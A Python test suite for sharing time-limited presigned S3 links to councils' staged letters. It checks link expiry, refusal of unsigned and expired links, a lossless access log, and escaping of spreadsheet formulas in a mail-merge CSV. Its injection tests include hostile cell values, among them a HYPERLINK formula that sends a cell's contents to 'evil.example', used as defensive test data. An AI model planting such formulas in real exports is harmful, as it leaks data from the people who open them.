"""Councils' early links on a real S3 server: the exact staged bytes for the holder, nothing unsigned,
nothing after expiry; and a record of who was given access that two shares cannot lose."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from annual_review.access.share import (
    CSV_COLUMNS,
    append_record,
    link_expiry,
    share_letters,
    spreadsheet_text,
)
from annual_review.clock import system_clock
from annual_review.errors import PipelineError
from annual_review.layout import RELEASES_KEY
from annual_review.store.local import LocalStore
from annual_review.store.s3 import S3Store
from annual_review.tables import SCHEMAS
from annual_review.years import BusinessYear
from tests.helpers.commands import cli
from tests.helpers.release_fixtures import CODES, candidate_files, stage
from tests.helpers.s3_server import BUCKET, SeaweedServer

YEAR = BusinessYear.parse("2019-20")
NOW = datetime(2020, 7, 1, 12, 0, tzinfo=UTC)
RELEASE = YEAR.default_release_time()  # 2020-07-29 09:30 London


def get(url: str) -> tuple[int, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


@pytest.mark.parametrize(
    ("now", "until", "expected"),
    [
        (NOW, None, NOW + timedelta(days=7)),  # 7 days come first
        (RELEASE - timedelta(days=2), None, RELEASE),  # the release comes first
        (NOW, NOW + timedelta(hours=3), NOW + timedelta(hours=3)),
    ],
)
def test_links_expire_at_the_release_or_after_7_days(
    now: datetime, until: datetime | None, expected: datetime
) -> None:
    assert link_expiry(YEAR, now, RELEASE, until) == expected


@pytest.mark.parametrize(
    ("now", "until", "message"),
    [
        (RELEASE, None, "share refuses after it"),
        (NOW, NOW - timedelta(seconds=1), "has already passed"),
        (NOW, NOW + timedelta(days=8), "no later than the release time and within 7 days"),
        (RELEASE - timedelta(hours=1), RELEASE + timedelta(minutes=1), "no later than the release time"),
    ],
)
def test_a_link_never_outlives_the_release(now: datetime, until: datetime | None, message: str) -> None:
    with pytest.raises(PipelineError, match=message):
        link_expiry(YEAR, now, RELEASE, until)


def test_a_local_folder_store_is_refused_in_one_line(tmp_path: Path) -> None:
    store = LocalStore(tmp_path / "store")
    stage(store, YEAR)
    with pytest.raises(PipelineError, match="share needs an S3 store"):
        share_letters(
            store, YEAR, release_time=RELEASE, clock=lambda: NOW, csv_path=tmp_path / "x.csv", shared_by="t"
        )
    done = subprocess.run(
        [sys.executable, "-m", "flows.cli", "share", "--year", "2019-20", "--store", str(tmp_path / "store"),
         "--csv", str(tmp_path / "links.csv")],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 1
    assert done.stderr.startswith("error: share needs an S3 store (s3://bucket/prefix)")
    assert not (tmp_path / "links.csv").exists()


def test_restaging_keeps_the_access_log(tmp_path: Path) -> None:
    store = LocalStore(tmp_path / "store")
    stage(store, YEAR)
    append_record(store, "staging/2019-20/access-log.jsonl", {"shared_by": "a"})
    stage(store, YEAR, variant=1)
    assert store.get("staging/2019-20/access-log.jsonl") == b'{"shared_by": "a"}\n'


@pytest.fixture
def staged_s3(seaweed: SeaweedServer, s3_credentials: None) -> S3Store:
    store = seaweed.store()
    stage(store, YEAR)
    return store


def share_now(store: S3Store, csv_path: Path, **options: object) -> list[dict[str, str]]:
    """Shared by the real clock (the server checks links against it), with a release a day away."""
    release = options.pop("release_time", system_clock() + timedelta(days=1))
    share_letters(
        store,
        YEAR,
        release_time=release,
        clock=system_clock,
        csv_path=csv_path,
        shared_by="link officer team",
        **options,  # type: ignore[arg-type]
    )
    return list(csv.DictReader(csv_path.read_text().splitlines()))


@pytest.mark.s3
def test_each_council_gets_links_to_its_own_staged_letter(
    staged_s3: S3Store, seaweed: SeaweedServer, tmp_path: Path
) -> None:
    release = system_clock() + timedelta(hours=5)
    rows = share_now(staged_s3, tmp_path / "links.csv", release_time=release)
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [r["authority_code"] for r in rows] == sorted(CODES)
    files = candidate_files(YEAR)
    for row in rows:
        code = row["authority_code"]
        assert row["authority_name"].startswith("authority_name-")  # from the staged authorities table
        for fmt in ("html", "pdf"):
            assert get(row[f"{fmt}_url"]) == (200, files[f"letters/{code}.{fmt}"])
            unsigned = f"{seaweed.endpoint}/{BUCKET}/{staged_s3.prefix}staging/2019-20/letters/{code}.{fmt}"
            assert get(unsigned)[0] == 403
        expires = datetime.fromisoformat(row["expires_at"].replace("Z", "+00:00"))
        assert release - timedelta(seconds=2) <= expires <= release
    assert (tmp_path / "links.csv").stat().st_mode & 0o077 == 0  # readable by its owner only
    assert not any("links.csv" in key for key in staged_s3.list(""))
    log = [json.loads(line) for line in staged_s3.get("staging/2019-20/access-log.jsonl").splitlines()]
    assert len(log) == 1
    assert log[0]["shared_by"] == "link officer team"
    assert [r["authority_code"] for r in log[0]["recipients"]] == sorted(CODES)
    assert "X-Amz-Signature" not in json.dumps(log)  # who and when, never the links


@pytest.mark.s3
def test_an_expired_link_is_refused(staged_s3: S3Store, tmp_path: Path) -> None:
    rows = share_now(staged_s3, tmp_path / "links.csv", until=system_clock() + timedelta(seconds=2))
    assert get(rows[0]["pdf_url"])[0] == 200
    time.sleep(3)
    assert get(rows[0]["pdf_url"])[0] == 403


@pytest.mark.s3
def test_a_released_year_is_refused(staged_s3: S3Store, tmp_path: Path) -> None:
    index = {"format": 1, "latest": "2019-20", "years": {"2019-20": {"released_at": "2020-07-29T08:30:00Z"}}}
    staged_s3.put(RELEASES_KEY, json.dumps(index).encode(), content_type="application/json")
    with pytest.raises(PipelineError, match="was released at 2020-07-29T08:30:00Z"):
        share_now(staged_s3, tmp_path / "links.csv")
    assert not (tmp_path / "links.csv").exists()


@pytest.mark.s3
def test_shares_at_the_same_time_lose_no_record(staged_s3: S3Store) -> None:
    key = "staging/2019-20/access-log.jsonl"

    def share(worker: int) -> None:
        for n in range(3):
            append_record(staged_s3, key, {"worker": worker, "n": n})

    threads = [threading.Thread(target=share, args=(w,)) for w in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    records = [json.loads(line) for line in staged_s3.get(key).splitlines()]
    assert sorted((r["worker"], r["n"]) for r in records) == [(w, n) for w in range(4) for n in range(3)]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Kettering Borough Council", "Kettering Borough Council"),
        ("Smith-Jones = chief", "Smith-Jones = chief"),  # only the first character makes a formula
        ("O'Brien", "O'Brien"),
        ("", ""),
    ],
)
def test_a_text_cell_never_starts_a_formula(cell: str, written: str) -> None:
    assert spreadsheet_text(cell) == written


HOSTILE = {  # what an authorities export may say, row by row (CODES order)
    "authority_name": ['=HYPERLINK("http://evil.example/?"&A1,"Open")', 'Kettering, "North" Borough'],
    "chief_executive": ["@SUM(1+1)", "-2+3"],
}


def hostile_authorities() -> bytes:
    schema = SCHEMAS["authorities"]
    table = pq.read_table(pa.BufferReader(candidate_files(YEAR)["data/authorities.parquet"]))
    for column, values in HOSTILE.items():
        table = table.set_column(table.schema.get_field_index(column), schema.field(column), [values])
    sink = io.BytesIO()
    pq.write_table(table, sink)
    return sink.getvalue()


@pytest.mark.s3
def test_the_mail_merge_csv_starts_no_formula(
    seaweed: SeaweedServer, s3_credentials: None, tmp_path: Path
) -> None:
    store = seaweed.store()
    stage(store, YEAR, files={**candidate_files(YEAR), "data/authorities.parquet": hostile_authorities()})
    release = (system_clock() + timedelta(days=1)).isoformat()
    done = cli(
        "share", "--year", YEAR.label, "--store", store.url, "--csv", "links.csv", "--by", "t",
        cwd=tmp_path,
        AWS_ENDPOINT_URL=seaweed.endpoint,
        ANNUAL_REVIEW_RELEASE_TIMES=json.dumps({YEAR.label: release}),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    text = (tmp_path / "links.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["authority_code"] for r in rows] == sorted(CODES)
    assert [r["authority_name"] for r in rows] == [
        "'" + HOSTILE["authority_name"][0],
        HOSTILE["authority_name"][1],
    ]
    assert [r["chief_executive"] for r in rows] == ["'@SUM(1+1)", "'-2+3"]
    assert all(get(r["pdf_url"])[0] == 200 for r in rows)  # the links are untouched
    for line in text.splitlines()[1:]:  # every cell is quoted: no separator of any locale splits one
        assert line.startswith('"') and line.endswith('"'), line
    (record,) = [json.loads(line) for line in store.get("staging/2019-20/access-log.jsonl").splitlines()]
    assert [r["authority_name"] for r in record["recipients"]] == HOSTILE[
        "authority_name"
    ]  # the record as is
